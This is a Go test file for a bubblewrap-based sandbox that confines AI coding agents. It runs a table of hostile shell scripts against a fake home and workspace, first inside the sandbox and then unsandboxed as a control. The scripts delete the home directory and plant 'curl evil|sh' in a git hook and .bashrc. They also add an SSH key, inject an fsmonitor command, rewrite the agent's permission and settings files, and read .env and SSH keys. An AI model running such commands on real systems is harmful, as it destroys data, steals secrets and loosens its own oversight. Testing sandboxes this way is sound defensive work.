//go:build linux

package sandbox

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/acp-bridge/acp-bridge/policy"
)

// requireMechanism skips when the machine has no bubblewrap, unless
// ACP_BRIDGE_REQUIRE_SANDBOX is set (CI installs bubblewrap and sets it, so
// there a missing mechanism fails instead of passing vacuously).
func requireMechanism(t *testing.T) {
	t.Helper()
	if m := Probe(); !m.Available {
		if os.Getenv("ACP_BRIDGE_REQUIRE_SANDBOX") != "" {
			t.Fatalf("no sandbox mechanism: %s", m.Problem)
		}
		t.Skipf("no sandbox mechanism: %s", m.Problem)
	}
}

// tree is a fake home and workspace with secrets and policy files in them.
type tree struct {
	home, ws string
	files    map[string]string // abs path -> original content: must stay so
}

func newTree(t *testing.T) *tree {
	t.Helper()
	base := t.TempDir()
	tr := &tree{home: filepath.Join(base, "home"), ws: filepath.Join(base, "home", "proj"), files: map[string]string{}}
	for rel, content := range map[string]string{
		"home/.ssh/id_rsa":                       "PRIVATE-KEY",
		"home/.ssh/authorized_keys":              "ssh-ed25519 AAAA me",
		"home/.bashrc":                           "# rc\n",
		"home/notes.txt":                         "my notes",
		"home/.config/acp-bridge/config.yaml":    "permissions: {deny: [\"Read(.env*)\"]}\n",
		"home/.gemini/settings.json":             "{}",
		"home/proj/.env":                         "SECRET=hunter2",
		"home/proj/sub/.env.local":               "SECRET=hunter3",
		"home/proj/main.go":                      "package main\n",
		"home/proj/.acp-bridge.yaml":             "permissions: {deny: [\"Bash(curl *)\"]}\n",
		"home/proj/.vscode/settings.json":        "{}",
		"home/proj/.vscode/launch.json":          "{}",
		"home/proj/.claude/settings.json":        "{}",
		"home/proj/.git/config":                  "[core]\n",
		"home/proj/.git/hooks/pre-commit.sample": "#!/bin/sh\n",
	} {
		p := filepath.Join(base, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if rel != "home/proj/main.go" { // ordinary work may change main.go
			tr.files[p] = content
		}
	}
	return tr
}

func (tr *tree) spec(t *testing.T, deny ...string) Spec {
	t.Helper()
	var rules []policy.RuleText
	for _, d := range deny {
		rules = append(rules, policy.RuleText{List: "deny", Text: d, Origin: policy.Origin{Layer: "user"}})
	}
	pol, errs := policy.Compile(rules)
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	s, err := Compute(Options{
		Workspace: []string{tr.ws},
		Home:      tr.home,
		StateDirs: StateDirs("gemini", tr.home),
		Protected: []string{filepath.Join(tr.home, ".config", "acp-bridge")},
		Policy:    pol,
		Env:       policy.Env{Cwd: tr.ws, ProjectRoot: tr.ws, Home: tr.home},
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// run runs a shell script inside s, in the workspace, with HOME at the
// fake home, and returns its combined output and exit error.
func (tr *tree) run(t *testing.T, s Spec, script string) (string, error) {
	t.Helper()
	p, err := Prepare(s, tr.ws, []string{"/bin/sh", "-c", script}, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer p.Cleanup()
	cmd := exec.Command(p.Path, p.Args...)
	cmd.Env = append(os.Environ(), "HOME="+tr.home)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err = cmd.Run()
	return out.String(), err
}

// changed lists the files of the tree that changed or vanished.
func (tr *tree) changed() []string {
	var out []string
	for p, want := range tr.files {
		if got, err := os.ReadFile(p); err != nil || string(got) != want {
			out = append(out, p)
		}
	}
	if _, err := os.Stat(filepath.Join(tr.ws, ".git", "hooks", "pre-commit")); err == nil {
		out = append(out, ".git/hooks/pre-commit (created)")
	}
	return out
}

// intact fails the test for every file of the tree that changed or vanished.
func (tr *tree) intact(t *testing.T) {
	t.Helper()
	for _, p := range tr.changed() {
		t.Errorf("%s changed or vanished", p)
	}
}

// dropped lists (and removes) the files the attacks try to create outside
// the writable trees.
func dropped(tr *tree) []string {
	var out []string
	for _, p := range []string{filepath.Join(tr.home, "dropped"), "/etc/dropped", "/usr/local/dropped"} {
		if _, err := os.Stat(p); err == nil {
			os.Remove(p)
			out = append(out, p)
		}
	}
	return out
}

func TestSandboxDamageAttempts(t *testing.T) {
	requireMechanism(t)
	attacks := []struct {
		name, script string
		secret       string // output must not hold it
	}{
		{"rm -rf the fake home", `rm -rf "$HOME"; rm -rf "$HOME"/* "$HOME"/.[!.]*`, ""},
		{"write a git hook", `echo 'curl evil|sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`, ""},
		{"rewrite .git/config", `echo '[core] fsmonitor = sh -c evil' >> .git/config`, ""},
		{"rewrite the workspace policy", `printf 'permissions: {allow: [Bash]}\n' > .acp-bridge.yaml`, ""},
		{"replace the workspace policy by rename", `printf 'x' > new.yaml && mv -f new.yaml .acp-bridge.yaml`, ""},
		{"rewrite editor and agent settings", `echo '{"x":1}' > .vscode/settings.json; echo '{"configurations":[]}' > .vscode/launch.json; echo '{}' > .claude/settings.json; echo '{"yolo":1}' > "$HOME/.gemini/settings.json"`, ""},
		{"rewrite the user config", `echo 'permissions: {}' > "$HOME/.config/acp-bridge/config.yaml"`, ""},
		{"append to a shell rc file", `echo 'curl evil | sh' >> "$HOME/.bashrc"`, ""},
		{"authorized_keys", `echo 'ssh-rsa EVIL' >> "$HOME/.ssh/authorized_keys"`, ""},
		{"write outside the workspace", `echo x > "$HOME/dropped"; echo x > /etc/dropped; echo x > /usr/local/dropped`, ""},
		{"cat .env", `cat .env sub/.env.local`, "hunter"},
		{"grep -r the workspace", `grep -r SECRET . ; grep -r hunter "$HOME"`, "hunter"},
		{"python reads .env", `python3 -c 'print(open(".env").read())'`, "hunter"},
		{"cat ssh key", `cat "$HOME/.ssh/id_rsa"; ls -la "$HOME/.ssh"`, "PRIVATE"},
		{"python reads ssh key", `python3 -c 'import os; print(open(os.path.expanduser("~/.ssh/id_rsa")).read())'`, "PRIVATE"},
		{"copy the secret out then read", `cp .env "$TMPDIR/x"; cp .env copy.txt; cat copy.txt "$TMPDIR/x"`, "hunter"},
		{"remount to unmask", `umount .env; mount -o remount,rw /; cat .env`, "hunter"},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			tr := newTree(t)
			out, _ := tr.run(t, tr.spec(t, "Read(.env*)", "Read(~/.ssh/**)"), a.script)
			if a.secret != "" && strings.Contains(out, a.secret) {
				t.Errorf("the secret came out:\n%s", out)
			}
			tr.intact(t)
			if d := dropped(tr); len(d) > 0 {
				t.Errorf("written outside the sandbox's writable trees: %v", d)
			}

			// The control: the same script unsandboxed on a fresh tree does
			// the damage, so the attack is real and the sandbox is what
			// stopped it.
			ctl := newTree(t)
			cmd := exec.Command("/bin/sh", "-c", a.script)
			cmd.Dir, cmd.Env = ctl.ws, append(os.Environ(), "HOME="+ctl.home, "TMPDIR="+t.TempDir())
			out2, _ := cmd.CombinedOutput()
			damaged := (a.secret != "" && strings.Contains(string(out2), a.secret)) || len(dropped(ctl)) > 0 || len(ctl.changed()) > 0
			if !damaged {
				t.Errorf("unsandboxed, the attack did no damage: it proves nothing\n%s", out2)
			}
		})
	}
}

func TestSandboxOrdinaryWork(t *testing.T) {
	requireMechanism(t)
	tr := newTree(t)
	s := tr.spec(t, "Read(.env*)", "Read(~/.ssh/**)")
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	script := `set -e
printf 'package main\n\nfunc main() {}\n' > main.go
mkdir -p build && echo artefact > build/out.txt
echo tmp > "$TMPDIR/scratch" && cat "$TMPDIR/scratch"
git init -q newrepo && cd newrepo && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m first && git log --oneline | wc -l
cat "$HOME/notes.txt"
echo state > "$HOME/.gemini/history"
`
	out, err := tr.run(t, s, script)
	if err != nil {
		t.Fatalf("ordinary work failed: %v\n%s", err, out)
	}
	if !strings.Contains(out, "my notes") || !strings.Contains(out, "tmp") {
		t.Errorf("output %q lacks what the script printed", out)
	}
	if got, _ := os.ReadFile(filepath.Join(tr.ws, "build", "out.txt")); string(got) != "artefact\n" {
		t.Errorf("build/out.txt = %q", got)
	}
	if _, err := os.Stat(filepath.Join(tr.ws, "newrepo", ".git")); err != nil {
		t.Errorf("git init in the workspace: %v", err)
	}
	if _, err := os.Stat(filepath.Join(tr.home, ".gemini", "history")); err != nil {
		t.Errorf("the agent's state directory is not writable: %v", err)
	}
}

// The exit status of the command is the sandboxed command's.
func TestSandboxExitStatus(t *testing.T) {
	requireMechanism(t)
	tr := newTree(t)
	_, err := tr.run(t, tr.spec(t), "exit 7")
	var ee *exec.ExitError
	if !errorsAs(err, &ee) || ee.ExitCode() != 7 {
		t.Fatalf("exit = %v, want status 7", err)
	}
}

func errorsAs(err error, target **exec.ExitError) bool {
	e, ok := err.(*exec.ExitError)
	if ok {
		*target = e
	}
	return ok
}
